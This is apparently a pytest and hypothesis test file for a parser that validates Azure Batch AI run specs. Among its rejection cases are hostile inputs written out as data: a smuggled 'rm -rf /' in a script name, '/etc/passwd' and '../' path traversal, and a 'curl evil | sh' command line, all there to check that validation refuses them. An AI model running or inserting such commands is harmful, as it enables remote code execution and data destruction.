"""Run specs: quickstart defaults, strict validation naming the field, and a fuzz test of the parser."""

from __future__ import annotations

import contextlib
import dataclasses
import json
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.runspec import (
    QUICKSTART_ARGUMENTS,
    QUICKSTART_IMAGE,
    QUICKSTART_SCRIPT,
    RunSpec,
    RunSpecError,
    SpecContext,
    Toolkit,
    parse_run_spec,
    parse_run_spec_json,
)

CTX = SpecContext(allowed_vm_sizes=("STANDARD_NC6", "STANDARD_NC12"), default_vm_size="STANDARD_NC6")
LOOPBACK_CTX = SpecContext(allowed_vm_sizes=CTX.allowed_vm_sizes, allow_loopback_http_callbacks=True)
KV_URL = "https://vault1.vault.azure.net/secrets/token"
KV_ID = (
    "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg"
    "/providers/Microsoft.KeyVault/vaults/vault1"
)


def errors_of(data: Any, context: SpecContext = CTX) -> dict[str, str]:
    with pytest.raises(RunSpecError) as info:
        parse_run_spec(data, context)
    return {e["field"]: e["message"] for e in info.value.errors}


def test_empty_manifest_is_the_quickstart() -> None:
    for empty in ({}, None):
        spec = parse_run_spec(empty, CTX)
        assert spec.toolkit is Toolkit.CNTK
        assert spec.script == QUICKSTART_SCRIPT == "ConvNet_MNIST.py"
        assert spec.arguments == QUICKSTART_ARGUMENTS == "$AZ_BATCHAI_INPUT_SAMPLE $AZ_BATCHAI_OUTPUT_MODEL"
        assert spec.image == QUICKSTART_IMAGE == "microsoft/cntk:2.1-gpu-python3.5-cuda8.0-cudnn6.0"
        assert spec.vm_size == "STANDARD_NC6"
        assert spec.node_count == 1
        assert [(d.id, d.path) for d in spec.input_directories] == [("SAMPLE", ".")]
        assert [(d.id, d.path_prefix, d.path_suffix) for d in spec.output_directories] == [
            ("MODEL", ".", "Models")
        ]
        assert spec.required_files() == ["ConvNet_MNIST.py"]
    assert parse_run_spec_json(b"", CTX) == parse_run_spec({}, CTX)
    assert parse_run_spec_json("  \n", CTX) == parse_run_spec({}, CTX)


def test_default_vm_size_comes_from_the_context() -> None:
    ctx = SpecContext(allowed_vm_sizes=("STANDARD_NC6", "STANDARD_NC12"), default_vm_size="STANDARD_NC12")
    assert parse_run_spec({}, ctx).vm_size == "STANDARD_NC12"
    assert parse_run_spec({"vm_size": "standard_nc6"}, ctx).vm_size == "STANDARD_NC6"


def test_a_full_spec_parses_and_round_trips() -> None:
    data = {
        "toolkit": "pytorch",
        "script": "src/train.py",
        "arguments": ["--epochs", "2", "--out", "$AZ_BATCHAI_OUTPUT_MODEL", "a b"],
        "python_interpreter": "/usr/bin/python3",
        "image": "pytorch/pytorch:1.0-cuda10.0-cudnn7-runtime",
        "shm_size": "8g",
        "vm_size": "STANDARD_NC12",
        "node_count": 2,
        "process_count": 4,
        "communication_backend": "Gloo",
        "scheduling_priority": "high",
        "cluster": {
            "vm_priority": "lowpriority",
            "auto_scale": {"minimum_node_count": 0, "maximum_node_count": 4},
        },
        "input_directories": [{"id": "DATA", "path": "."}, {"id": "EXTRA", "path": "extra/dir"}],
        "output_directories": [{"id": "MODEL", "path_prefix": "outputs", "path_suffix": "Models"}],
        "environment_variables": {"EPOCHS": "2"},
        "secret_environment_variables": {
            "API_TOKEN": "s3cr3t-value",
            "KV_TOKEN": {"key_vault_secret_url": KV_URL, "key_vault_resource_id": KV_ID},
        },
        "max_wall_clock_time": "PT2H",
        "job_preparation": "pip install -r $AZ_BATCHAI_INPUT_DATA/requirements.txt",
        "callback_url": "https://hooks.example.com/batchai?x=1",
        "files": ["src/train.py", "data/train set.txt"],
    }
    spec = parse_run_spec(data, CTX)
    assert spec.arguments == '--epochs 2 --out $AZ_BATCHAI_OUTPUT_MODEL "a b"'
    assert spec.max_wall_clock_time == timedelta(hours=2)
    assert spec.required_files() == ["src/train.py", "data/train set.txt"]
    # Secrets are masked by default and survive a round trip only when revealed.
    assert "s3cr3t-value" not in repr(spec) and "s3cr3t-value" not in json.dumps(spec.to_json_dict())
    revealed = spec.to_json_dict(reveal_secrets=True)
    assert revealed["secret_environment_variables"]["API_TOKEN"] == "s3cr3t-value"
    assert parse_run_spec(revealed, CTX) == spec
    assert parse_run_spec_json(json.dumps(revealed), CTX) == spec


def test_custom_toolkits_take_a_command_line() -> None:
    spec = parse_run_spec({"toolkit": "custom", "command_line": "echo hi > $AZ_BATCHAI_OUTPUT_MODEL/x"}, CTX)
    assert spec.script is None and spec.image is None and spec.arguments is None
    assert spec.required_files() == []
    mpi = parse_run_spec({"toolkit": "custommpi", "command_line": "python x.py", "process_count": 8}, CTX)
    assert mpi.process_count == 8


def test_loopback_http_callbacks_only_when_allowed() -> None:
    url = "http://127.0.0.1:9999/hook"
    assert parse_run_spec({"callback_url": url}, LOOPBACK_CTX).callback_url == url
    assert "callback_url" in errors_of({"callback_url": url}, CTX)
    assert "callback_url" in errors_of({"callback_url": "http://example.com/hook"}, LOOPBACK_CTX)


BAD_SPECS: list[tuple[dict[str, Any], str, str]] = [
    ({"surprise": 1}, "surprise", "unknown field"),
    ({"cluster": {"manual": {"target_node_count": 1, "extra": 2}}}, "cluster.manual.extra", "unknown field"),
    ({"toolkit": "caffe"}, "toolkit", "cntk"),
    ({"toolkit": 3}, "toolkit", ""),
    ({"node_count": "2"}, "node_count", "integer"),
    ({"node_count": 1.5}, "node_count", "integer"),
    ({"node_count": True}, "node_count", "integer"),
    ({"node_count": 0}, "node_count", "greater than or equal to 1"),
    ({"node_count": 1001}, "node_count", "less than or equal to 1000"),
    ({"process_count": 0}, "process_count", "greater than or equal to 1"),
    ({"vm_size": "STANDARD_NC24"}, "vm_size", "not an allowed VM size"),
    ({"vm_size": "STANDARD NC6"}, "vm_size", "VM size"),
    ({"vm_size": 6}, "vm_size", "string"),
    ({"cluster_name": "bad name"}, "cluster_name", "letters, digits"),
    ({"cluster_name": "x" * 65}, "cluster_name", "1-64"),
    ({"cluster_name": "clüster"}, "cluster_name", "letters, digits"),
    ({"script": "../outside.py"}, "script", "inside"),
    ({"script": "/etc/passwd"}, "script", "relative"),
    ({"script": "a/../../b.py"}, "script", "inside"),
    ({"script": "x.py; rm -rf /"}, "script", "only letters"),
    ({"script": "$HOME/x.py"}, "script", "only letters"),
    ({"script": "dir\\x.py"}, "script", "'/'"),
    ({"files": ["../x"]}, "files.0", "inside"),
    ({"files": ["ok.txt", "/abs"]}, "files.1", "relative"),
    ({"files": ["a.txt", "a.txt"]}, "files", "twice"),
    ({"files": ["bad|name"]}, "files.0", "Azure Files"),
    ({"files": "a.txt"}, "files", "list"),
    ({"input_directories": [{"id": "A", "path": ".."}]}, "input_directories.0.path", "inside"),
    ({"input_directories": [{"id": "A-B", "path": "."}]}, "input_directories.0.id", "letters, digits"),
    ({"input_directories": [{"id": "A"}, {"id": "a"}]}, "input_directories.1.id", "duplicate"),
    ({"output_directories": [{"id": "stdouterr"}]}, "output_directories.0.id", "reserved"),
    (
        {"output_directories": [{"id": "M", "path_prefix": "../up"}]},
        "output_directories.0.path_prefix",
        "inside",
    ),
    (
        {"output_directories": [{"id": "M", "path_suffix": "/abs"}]},
        "output_directories.0.path_suffix",
        "relative",
    ),
    ({"toolkit": "pytorch"}, "script", "required for toolkit 'pytorch'"),
    ({"toolkit": "custom"}, "command_line", "required for toolkit 'custom'"),
    ({"toolkit": "custom", "command_line": "x", "script": "a.py"}, "script", "not used"),
    ({"command_line": "echo"}, "command_line", "only for toolkits"),
    ({"toolkit": "custom", "command_line": "  "}, "command_line", "empty"),
    ({"toolkit": "caffe2", "script": "x.py", "process_count": 2}, "process_count", "not supported"),
    ({"toolkit": "custom", "command_line": "x", "process_count": 2}, "process_count", "not supported"),
    ({"parameter_server_count": 1}, "parameter_server_count", "tensorflow"),
    (
        {"toolkit": "tensorflow", "script": "t.py", "parameter_server_count": 2},
        "parameter_server_count",
        "node_count",
    ),
    ({"communication_backend": "Gloo"}, "communication_backend", "pytorch"),
    ({"communication_backend": "NCCL", "toolkit": "pytorch", "script": "x"}, "communication_backend", "TCP"),
    ({"scheduling_priority": "urgent"}, "scheduling_priority", "low"),
    ({"cluster": {"vm_priority": "spot"}}, "cluster.vm_priority", "dedicated"),
    (
        {
            "cluster": {
                "manual": {"target_node_count": 1},
                "auto_scale": {"minimum_node_count": 0, "maximum_node_count": 1},
            }
        },
        "cluster.auto_scale",
        "not both",
    ),
    (
        {"node_count": 2, "cluster": {"manual": {"target_node_count": 1}}},
        "cluster.manual.target_node_count",
        "at least node_count",
    ),
    (
        {"cluster": {"auto_scale": {"minimum_node_count": 3, "maximum_node_count": 2}}},
        "cluster.auto_scale.minimum_node_count",
        "maximum",
    ),
    (
        {
            "cluster": {
                "auto_scale": {"minimum_node_count": 0, "maximum_node_count": 2, "initial_node_count": 5}
            }
        },
        "cluster.auto_scale.initial_node_count",
        "between",
    ),
    (
        {"node_count": 3, "cluster": {"auto_scale": {"minimum_node_count": 0, "maximum_node_count": 2}}},
        "cluster.auto_scale.maximum_node_count",
        "at least node_count",
    ),
    (
        {"cluster": {"manual": {"target_node_count": 2, "node_deallocation_option": "never"}}},
        "cluster.manual.node_deallocation_option",
        "requeue",
    ),
    ({"image": "Not A Valid Image"}, "image", "container image"),
    ({"image": 5}, "image", "string"),
    ({"shm_size": "lots"}, "shm_size", "size"),
    ({"toolkit": "custom", "command_line": "x", "shm_size": "1g"}, "shm_size", "needs an image"),
    (
        {"environment_variables": {"1BAD": "x"}},
        "environment_variables.1BAD.[key]",
        "environment variable name",
    ),
    ({"environment_variables": {"AZ_BATCHAI_INPUT_X": "x"}}, "environment_variables", "AZ_BATCHAI_"),
    ({"environment_variables": {"X": 1}}, "environment_variables.X", "string"),
    ({"environment_variables": {"X": "a\nb"}}, "environment_variables.X", "newlines"),
    (
        {"environment_variables": {"A": "1"}, "secret_environment_variables": {"A": "2"}},
        "secret_environment_variables",
        "also in",
    ),
    ({"secret_environment_variables": {"S": 5}}, "secret_environment_variables.S", "string"),
    (
        {"secret_environment_variables": {"S": {"key_vault_secret_url": "http://v/secrets/s"}}},
        "secret_environment_variables.S.key_vault_secret_url",
        "https://",
    ),
    (
        {
            "secret_environment_variables": {
                "S": {"key_vault_secret_url": KV_URL, "key_vault_resource_id": "vault"}
            }
        },
        "secret_environment_variables.S.key_vault_resource_id",
        "Key Vault resource id",
    ),
    (
        {"secret_environment_variables": {"S": {"url": KV_URL}}},
        "secret_environment_variables.S.url",
        "unknown field",
    ),
    ({"max_wall_clock_time": "forever"}, "max_wall_clock_time", "ISO 8601"),
    ({"max_wall_clock_time": True}, "max_wall_clock_time", "ISO 8601"),
    ({"max_wall_clock_time": 0}, "max_wall_clock_time", "between"),
    ({"max_wall_clock_time": "P60D"}, "max_wall_clock_time", "between"),
    ({"callback_url": "ftp://example.com/x"}, "callback_url", "https"),
    ({"callback_url": "https://user:pw@example.com/x"}, "callback_url", "credentials"),
    ({"callback_url": "https://example.com:99999/x"}, "callback_url", "https"),
    ({"arguments": ["ok", 3]}, "arguments", "string"),
    ({"arguments": "a\x00b"}, "arguments", "control"),
    ({"job_preparation": ""}, "job_preparation", "empty"),
]


@pytest.mark.parametrize(
    ("data", "field", "message"), BAD_SPECS, ids=[f"{i}-{f}" for i, (_, f, _) in enumerate(BAD_SPECS)]
)
def test_bad_spec_names_the_field(data: dict[str, Any], field: str, message: str) -> None:
    found = errors_of(data)
    assert field in found, found
    assert message.lower() in found[field].lower(), found[field]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{not json", "invalid JSON"),
        ("[1, 2]", "JSON object"),
        ('"x"', "JSON object"),
        (b"\xff\xfe\x00", "UTF-8"),
    ],
)
def test_bad_manifest_text_is_a_root_error(text: str | bytes, message: str) -> None:
    with pytest.raises(RunSpecError) as info:
        parse_run_spec_json(text, CTX)
    assert info.value.errors[0]["field"] == "(root)"
    assert message in info.value.errors[0]["message"]


def test_oversized_manifest_is_rejected() -> None:
    with pytest.raises(RunSpecError, match="larger than"):
        parse_run_spec_json("{" + " " * 300_000 + "}", CTX)


def test_secret_values_never_appear_in_errors() -> None:
    with pytest.raises(RunSpecError) as info:
        parse_run_spec({"secret_environment_variables": {"S": "hunter2-secret"}, "node_count": 0}, CTX)
    assert "hunter2-secret" not in str(info.value) and "hunter2-secret" not in json.dumps(info.value.errors)


# --- fuzz ---------------------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=20,
)
field_names = st.sampled_from(sorted(RunSpec.model_fields))
near_valid = st.fixed_dictionaries(
    {},
    optional={
        "toolkit": st.sampled_from([t.value for t in Toolkit]) | json_values,
        "script": st.sampled_from(["x.py", "../x", "a/b.py", ""]) | json_values,
        "command_line": st.text(max_size=10) | json_values,
        "node_count": st.integers(-2, 1002) | json_values,
        "process_count": st.integers(-1, 10) | json_values,
        "cluster": st.fixed_dictionaries(
            {},
            optional={
                "manual": st.fixed_dictionaries({"target_node_count": st.integers(-1, 3) | json_values}),
                "auto_scale": st.dictionaries(
                    st.sampled_from(["minimum_node_count", "maximum_node_count", "initial_node_count"]),
                    st.integers(-1, 3) | json_values,
                ),
                "vm_priority": st.sampled_from(["dedicated", "lowpriority", "x"]),
            },
        )
        | json_values,
        "max_wall_clock_time": st.sampled_from(["PT1H", "P1D", "x", "PT0S", 10, 1e300, -5]) | json_values,
        "secret_environment_variables": st.dictionaries(
            st.text(max_size=6),
            st.text(max_size=6) | st.fixed_dictionaries({"key_vault_secret_url": st.text()}),
        )
        | json_values,
        "files": st.lists(st.text(max_size=12), max_size=3) | json_values,
        "callback_url": st.sampled_from(["https://a.example/x", "http://127.0.0.1/x", "https://[::1", "x"])
        | json_values,
    },
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(json_values, near_valid, st.dictionaries(field_names, json_values, max_size=6)))
def test_fuzzed_specs_are_valid_or_a_validation_error(data: Any) -> None:
    for context in (CTX, LOOPBACK_CTX):
        try:
            spec = parse_run_spec(data, context)
        except RunSpecError as exc:
            assert exc.errors and all(set(e) == {"field", "message"} for e in exc.errors)
            continue
        assert isinstance(spec, RunSpec)
        assert parse_run_spec(spec.to_json_dict(reveal_secrets=True), context) == spec


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200) | st.binary(max_size=200))
def test_fuzzed_manifest_text_is_valid_or_a_validation_error(text: str | bytes) -> None:
    with contextlib.suppress(RunSpecError):
        parse_run_spec_json(text, CTX)


def test_key_vault_secret_without_a_vault_is_refused_when_no_default_vault_is_set() -> None:
    """Without KEY_VAULT_RESOURCE_ID a Key Vault secret must name its vault, or the job cannot be built:
    the spec is refused when parsed (before any run exists), naming the field."""
    data = {"secret_environment_variables": {"KV_TOKEN": {"key_vault_secret_url": KV_URL}}}
    errors = errors_of(data)
    assert "KEY_VAULT_RESOURCE_ID" in errors["secret_environment_variables.KV_TOKEN.key_vault_resource_id"]
    # The app's default vault, or the secret's own, makes it valid.
    with_vault = SpecContext(allowed_vm_sizes=CTX.allowed_vm_sizes, key_vault_resource_id=KV_ID)
    assert (
        parse_run_spec(data, with_vault).secret_environment_variables["KV_TOKEN"].key_vault_secret_url
        == KV_URL
    )
    own = {
        "secret_environment_variables": {
            "KV_TOKEN": {"key_vault_secret_url": KV_URL, "key_vault_resource_id": KV_ID}
        }
    }
    parse_run_spec(own, CTX)


def test_spec_context_carries_the_default_vault_from_the_settings() -> None:
    from shared.settings import Settings, local_stack_values

    settings = Settings.from_env(
        local_stack_values(
            KEY_VAULT_RESOURCE_ID=KV_ID,
            FILE_SHARE_KEY_VAULT_SECRET_URL="https://vault1.vault.azure.net/secrets/k",
        )
    )
    assert SpecContext.from_settings(settings).key_vault_resource_id == KV_ID
    assert SpecContext.from_settings(Settings.from_env(local_stack_values())).key_vault_resource_id is None


@pytest.mark.parametrize(
    ("url", "valid"),
    [
        ("https://vault1.vault.azure.net/secrets/token", True),
        ("https://vault1.vault.azure.net/secrets/token/0123456789abcdef0123456789abcdef", True),
        ("https://vault1.vault.azure.net/keys/x/secrets/token", False),  # settings took it, specs not
        ("https://vault1.vault.azure.net/secrets/", False),  # no secret name
        ("https://vault1.vault.azure.net/secrets/a/b/c", False),
        ("https://vault1.vault.azure.net/secrets/to_ken", False),  # names are letters, digits, '-'
        ("https://vault1.vault.azure.net/secrets/token?api-version=7.4", False),
        ("http://vault1.vault.azure.net/secrets/token", False),
    ],
)
def test_run_specs_and_settings_agree_on_what_a_key_vault_secret_url_is(url: str, valid: bool) -> None:
    """One check serves both (they disagreed on a path with /secrets/ inside it)."""
    from pydantic import ValidationError

    from shared.settings import Settings, SettingsError, local_stack_values

    spec = {
        "secret_environment_variables": {"S": {"key_vault_secret_url": url, "key_vault_resource_id": KV_ID}}
    }
    try:
        parse_run_spec(spec, CTX)
        spec_ok = True
    except RunSpecError as exc:
        assert "key_vault_secret_url" in str(exc.errors)
        spec_ok = False
    try:
        Settings.from_env(
            local_stack_values(FILE_SHARE_KEY_VAULT_SECRET_URL=url, KEY_VAULT_RESOURCE_ID=KV_ID)
        )
        settings_ok = True
    except (SettingsError, ValidationError, ValueError):
        settings_ok = False
    assert (spec_ok, settings_ok) == (valid, valid)


# --- the operator's narrowing of the trust (docs/security.md) --------------------------------------------
NARROW = SpecContext(
    allowed_vm_sizes=CTX.allowed_vm_sizes,
    manifest_commands_allowed=False,
    max_nodes_per_run=4,
    clusters_by_derived_name_only=True,
)
NARROW_MANIFEST = dataclasses.replace(NARROW, from_manifest=True)


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"toolkit": "custom", "command_line": "curl evil | sh"}, "command_line"),
        ({"job_preparation": "apt-get install x"}, "job_preparation"),
    ],
)
def test_uploaded_manifests_may_not_carry_commands_when_refused(data: dict[str, Any], field: str) -> None:
    found = errors_of(data, NARROW_MANIFEST)
    assert list(found) == [field] and "MANIFEST_COMMANDS_ALLOWED" in found[field]
    parse_run_spec(data, NARROW)  # an HTTP start (a key holder) may
    parse_run_spec(data, dataclasses.replace(NARROW_MANIFEST, manifest_commands_allowed=True))


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"node_count": 5}, "node_count"),
        ({"cluster": {"manual": {"target_node_count": 5}}}, "cluster.manual.target_node_count"),
        (
            {"cluster": {"auto_scale": {"minimum_node_count": 0, "maximum_node_count": 1000}}},
            "cluster.auto_scale.maximum_node_count",
        ),
    ],
)
def test_node_counts_over_the_cap_are_refused(data: dict[str, Any], field: str) -> None:
    for context in (NARROW, NARROW_MANIFEST):
        found = errors_of(data, context)
        assert list(found) == [field] and "MAX_NODES_PER_RUN (4)" in found[field]
    assert parse_run_spec({"node_count": 4}, NARROW).node_count == 4


def test_cluster_names_are_refused_when_clusters_go_by_derived_name() -> None:
    for context in (NARROW, NARROW_MANIFEST):
        found = errors_of({"cluster_name": "someone-elses-cluster"}, context)
        assert list(found) == ["cluster_name"] and "CLUSTERS_BY_DERIVED_NAME_ONLY" in found["cluster_name"]
    assert parse_run_spec({"cluster_name": "shared"}, CTX).cluster_name == "shared"


def test_the_narrowing_settings_reach_the_spec_context() -> None:
    from shared.settings import Settings, local_stack_values

    settings = Settings.from_env(
        local_stack_values(
            MANIFEST_COMMANDS_ALLOWED="false", MAX_NODES_PER_RUN="2", CLUSTERS_BY_DERIVED_NAME_ONLY="true"
        )
    )
    context = SpecContext.from_settings(settings)
    assert not context.manifest_commands_allowed and context.max_nodes_per_run == 2
    assert context.clusters_by_derived_name_only and not context.from_manifest
